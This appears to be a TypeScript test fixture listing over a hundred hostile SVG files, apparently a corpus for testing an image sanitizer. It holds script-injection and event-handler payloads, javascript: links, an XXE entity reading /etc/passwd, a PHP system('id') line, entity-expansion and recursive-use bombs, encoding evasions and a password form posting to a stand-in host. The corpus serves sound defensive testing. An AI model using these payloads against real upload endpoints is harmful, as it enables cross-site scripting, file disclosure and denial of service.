const SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"';
const svg = (inside: string, attributes = "") =>
  `<svg ${SVG} viewBox="0 0 9 9" ${attributes}>${inside}</svg>`;
const utf16 = (text: string, order: "le" | "be") => {
  const bytes = Buffer.from(`\ufeff${text}`, "utf16le");
  return order === "le" ? bytes : bytes.swap16();
};

/** Nested groups, each of which references the previous one twice with `use`. */
function doubled(use: (id: string) => string): string {
  return Array.from({ length: 30 }, (_, level) => {
    const twice = level === 0 ? "<rect/>" : use(`a${level - 1}`).repeat(2);
    return `<g id="a${level}">${twice}</g>`;
  }).join("");
}

/** Content of hostile files that are uploaded or served as drawings. A new case is one line. */
export const HOSTILE_DRAWINGS: Record<string, string | Uint8Array> = {
  "a script": svg("<script>alert(1)</script>"),
  "a script in capitals": svg("<SCRIPT>alert(1)</SCRIPT>"),
  "a script from elsewhere": svg('<script href="https://evil.test/x.js"/>'),
  "a script from elsewhere by xlink": svg('<script xlink:href="data:,alert(1)"/>'),
  "a script in a section": svg("<script><![CDATA[alert(1)]]></script>"),
  "a script by a prefix": `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>`,
  "a script by a prefix that is declared on it": svg(
    '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
  ),
  "a script by a prefix of no namespace": svg("<x:script>alert(1)</x:script>"),
  "a script by the prefix of XHTML": svg(`<h:script ${XHTML}>alert(1)</h:script>`),
  "a script in a drawing in it": svg("<svg><svg><script>alert(1)</script></svg></svg>"),
  "a script in what is shown later": svg("<defs><symbol><script>alert(1)</script></symbol></defs>"),
  "a script in a title": svg("<title><script>alert(1)</script></title>"),
  "a script in metadata": svg("<metadata><script>alert(1)</script></metadata>"),
  "a script behind a comment": svg("<!-- <x --><script>alert(1)</script><!-- -->"),
  "a script behind a comment that HTML ends early": svg("<!--><script>alert(1)</script>-->"),
  "a script in a style sheet": svg("<style><script>alert(1)</script></style>"),
  "a script behind a style sheet's end": svg("<style><![CDATA[</style><script>alert(1)</script>]]></style>"),
  "a script in a text of entities": svg("<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>"),
  "a script in a value": svg('<text id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">a</text>'),
  "a script in a value that is not closed": `<svg ${SVG}><text id="<script>alert(1)</script>">a</text></svg>`,
  "a script in a name": svg('<g/onload="alert(1)"/>'),
  "a script behind the drawing": `${svg("")}<script xmlns="http://www.w3.org/2000/svg">alert(1)</script>`,
  "a script behind the drawing, of XHTML": `${svg("")}<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
  "a script before the drawing": `<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>${svg("")}`,
  "a drawing in a page": `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>${svg("")}</html>`,
  "a page that calls itself svg": '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>',
  "a drawing of no namespace": "<svg><script>alert(1)</script></svg>",
  "a handler": svg("<rect/>", 'onload="alert(1)"'),
  "a handler in capitals": svg('<rect ONCLICK="alert(1)"/>'),
  "a handler by a prefix": svg('<rect svg:onclick="alert(1)" xmlns:svg="http://www.w3.org/2000/svg"/>'),
  "a handler that has no value": svg("<rect onclick/>"),
  "a handler behind a line": svg('<rect\nonclick\n=\n"alert(1)"/>'),
  "a handler without quotes": svg("<rect onclick=alert(1)/>"),
  "a handler of an animation": svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  "a handler that an animation sets": svg('<set attributeName="onmouseover" to="alert(1)"/>'),
  "a listener": svg(
    '<handler xmlns="http://www.w3.org/2001/xml-events" type="text/javascript">alert(1)</handler>',
  ),
  "a link that an animation sets": svg(
    '<a><animate attributeName="href" values="javascript:alert(1)"/><text>a</text></a>',
  ),
  "a link that an animation sets by xlink": svg(
    '<a id="a"><text>a</text></a><set xlink:href="#a" attributeName="xlink:href" to="javascript:alert(1)"/>',
  ),
  "a link that an animation moves": svg(
    '<a><animateMotion href="javascript:alert(1)"/><animateTransform attributeName="href" to="javascript:alert(1)"/></a>',
  ),
  "a link": svg('<a href="https://evil.test"><text>a</text></a>'),
  "a link that runs": svg('<a href="javascript:alert(1)"><text>a</text></a>'),
  "a link that runs by xlink": svg('<a xlink:href="javascript:alert(1)"><text>a</text></a>'),
  "a link that runs by another prefix": svg(
    '<a l:href="javascript:alert(1)" xmlns:l="http://www.w3.org/1999/xlink"><text>a</text></a>',
  ),
  "a link that runs by entities": svg('<a href="&#106;ava&#x73;cript&colon;alert(1)"><text>a</text></a>'),
  "a link that runs behind a control": svg('<a href="\u0001java\tscript:alert(1)"><text>a</text></a>'),
  "a link to data": svg('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>a</text></a>'),
  "a base": svg('<rect xml:base="https://evil.test/"/><use href="#a"/>', 'xml:base="javascript:"'),
  "a use of a file": svg('<use href="https://evil.test/x.svg#a"/>'),
  "a use of data": svg(
    '<use href="data:image/svg+xml,&lt;svg id=&quot;a&quot; onload=&quot;alert(1)&quot;/&gt;#a"/>',
  ),
  "a picture from elsewhere": svg('<image href="//evil.test/x.png"/>'),
  "a picture that is a drawing": svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  "a picture that is a page": svg('<image href="data:text/html,x"/>'),
  "a picture of a filter": svg('<filter><feImage href="https://evil.test/x.png"/></filter>'),
  "a picture behind blanks": svg('<image href="  https://evil.test/x.png"/>'),
  "a page inside": svg(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>',
  ),
  "a page inside in capitals": svg("<FOREIGNOBJECT><p onclick='alert(1)'>a</p></FOREIGNOBJECT>"),
  "a frame": svg(`<h:iframe ${XHTML} src="javascript:alert(1)"/>`),
  "an object": svg(
    `<h:object ${XHTML} data="https://evil.test"/><h:embed ${XHTML} src="https://evil.test"/>`,
  ),
  "a form": svg(`<h:form ${XHTML} action="https://evil.test"><h:input name="password"/></h:form>`),
  "a form without a prefix": svg('<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.test"/>'),
  "a form under the name of a shape": svg(
    '<g xmlns="http://www.w3.org/1999/xhtml"><title onclick="alert(1)">a</title></g>',
  ),
  "a style of XHTML": svg(`<h:style ${XHTML}>@import "https://evil.test/x.css";</h:style>`),
  "a refresh": svg(`<h:meta ${XHTML} http-equiv="refresh" content="0;url=https://evil.test"/>`),
  "a base of XHTML": svg(`<h:base ${XHTML} href="https://evil.test/"/>`),
  "a link of XHTML": svg(`<h:link ${XHTML} rel="stylesheet" href="https://evil.test/x.css"/>`),
  "a picture of XHTML": svg(`<h:img ${XHTML} src="x" onerror="alert(1)"/>`),
  "a film": svg(
    `<h:video ${XHTML} src="https://evil.test/x.mp4"/><video href="https://evil.test/x"/><audio/>`,
  ),
  mathematics: svg(
    '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mi>a</mi></math>',
  ),
  "a style sheet before it": `<?xml-stylesheet href="https://evil.test/x.css"?>${svg("<rect/>")}`,
  "a transformation before it": `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${svg("<rect/>")}`,
  "a style sheet in it": svg('<?xml-stylesheet href="https://evil.test/x.css"?>'),
  "a program of a server": svg("<?php system('id'); ?><!--#exec cmd='id' -->"),
  "a style that imports": svg('<style>@import "https://evil.test/x.css";</style>'),
  "a style that imports in capitals": svg("<style>@IMPORT URL(https://evil.test/x.css);</style>"),
  "a style that imports by entities": svg("<style>&#64;import 'https://evil.test/x.css';</style>"),
  "a style that imports in parts": svg("<style>@im<!-- -->port 'https://evil.test/x.css'</style>"),
  "a style that imports in sections": svg(
    "<style><![CDATA[@im]]><![CDATA[port 'https://evil.test/x.css']]></style>",
  ),
  "a style that imports in parts of elements": svg(
    "<style>@im<tspan/>port 'https://evil.test/x.css'</style>",
  ),
  "a style that spells": svg("<style>rect{fill:u\\72l(https://evil.test/x)}</style>"),
  "a style that spells a script": svg("<style>@\\69mport 'https://evil.test/x.css'</style>"),
  "a font from elsewhere": svg("<style>@font-face{font-family:a;src:url(https://evil.test/x.woff2)}</style>"),
  "a set of pictures": svg("<style>rect{background:image-set('https://evil.test/x.png' 1x)}</style>"),
  "a set of pictures of a browser's own": svg(
    "<style>rect{background:-webkit-image-set('https://evil.test/x.png' 1x)}</style>",
  ),
  "a crossing of pictures": svg("<style>rect{background:cross-fade('https://evil.test/x.png', red)}</style>"),
  "a cursor": svg('<rect style="cursor:url(https://evil.test/x.cur),auto"/>'),
  "a colour from elsewhere": svg('<rect fill="url(https://evil.test/x.svg#a)"/>'),
  "a colour behind a comment": svg('<rect style="fill:url(/**/https://evil.test/x)"/>'),
  "a colour in quotes": svg("<rect filter='url(\"https://evil.test/x.svg#a\")'/>"),
  "a colour behind an own one": svg('<rect fill="url(#a) url(https://evil.test/x.svg#a)"/>'),
  "a binding": svg("<style>rect{-moz-binding:url(https://evil.test/x.xml#a);behavior:url(x.htc)}</style>"),
  "an expression": svg('<rect style="width:expression(alert(1))"/>'),
  entities: `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svg("&x;")}`,
  "entities in a value": `<!DOCTYPE svg [<!ENTITY j "javascript">]>${svg('<a href="&j;:alert(1)"><text>a</text></a>')}`,
  "entities of a file": `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`,
  "entities of parameters": `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.test/x.dtd"> %x;]>${svg("")}`,
  "entities without end": `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "${"&a;".repeat(1_000)}"><!ENTITY c "${"&b;".repeat(1_000)}">]>${svg("<text>&c;</text>")}`,
  "attributes by a document type": `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg("<rect/>")}`,
  "a document type that ends early": `<!DOCTYPE svg [<!ENTITY x "]>">]><script>alert(1)</script>${svg("")}`,
  "UTF-16 of a small machine": utf16(svg("<script>alert(1)</script>"), "le"),
  "UTF-16 of a large machine": utf16(svg("<script>alert(1)</script>"), "be"),
  "UTF-16 that says so": utf16(
    `<?xml version="1.0" encoding="UTF-16"?>${svg("<script>alert(1)</script>")}`,
    "le",
  ),
  "UTF-16 without a mark": Buffer.from(svg("<script>alert(1)</script>"), "utf16le"),
  "UTF-32": Buffer.from([...svg("<script>alert(1)</script>")].flatMap((one) => [0, 0, 0, one.charCodeAt(0)])),
  "UTF-7": `<?xml version="1.0" encoding="UTF-7"?>${svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")}`,
  "UTF-7 that says nothing": svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
  "a Japanese encoding": `<?xml version="1.0" encoding="ISO-2022-JP"?>${svg('<rect id="\u001b$@" onclick="alert(1)"/>')}`,
  "an encoding of large machines": `<?xml version="1.0" encoding="IBM037"?>${svg("<script>alert(1)</script>")}`,
  "an encoding behind blanks": `\n<?xml version='1.0' encoding = 'UTF-7' ?>${svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")}`,
  "bytes that are no UTF-8": Buffer.concat([
    Buffer.from(svg("<text>a").slice(0, -6)),
    Buffer.from([0xc0, 0xbc]),
    Buffer.from("script>"),
  ]),
  "a mark before it": `\ufeff${svg("<script>alert(1)</script>")}`,
  "a null in it": svg("<scr\u0000ipt>alert(1)</scr\u0000ipt><text>a\u0000</text>"),
  "letters that no XML has": svg("<text>a\u0001\u0008\uFFFEb</text>"),
  "letters that no XML has, by number": svg("<text>a&#1;&#8;&#xFFFE;b</text>"),
  "uses without end": svg(doubled((id) => `<use href="#${id}"/>`)),
  "uses without end by xlink": svg(doubled((id) => `<use xlink:href="#${id}"/>`)),
  "uses without end by a prefix": svg(
    doubled((id) => `<s:use xmlns:s="http://www.w3.org/2000/svg" href="#${id}"/>`),
  ),
  "masks without end": svg(doubled((id) => `<rect mask="url(#${id})"/>`)),
  "a use of itself": svg('<g id="a"><use href="#a"/></g>'),
  "a use of the whole": svg('<use href="#a"/>', 'id="a"'),
  "levels without end": svg("<g>".repeat(50_000)),
  "attributes without end": svg(
    `<rect ${Array.from({ length: 50_000 }, (_, index) => `a${index}="1"`).join(" ")}/>`,
  ),
  "a drawing that is not closed": `<svg ${SVG}><g><script>alert(1)`,
  "a drawing that closes more than it opened": `${svg("</g></svg><script>alert(1)</script>")}`,
  "two attributes of one name": svg('<a href="#a" href="javascript:alert(1)"><text>a</text></a>'),
  "a name of a prototype": svg('<constructor/><rect constructor="1" __proto__="2"/>', 'toString="1"'),
};
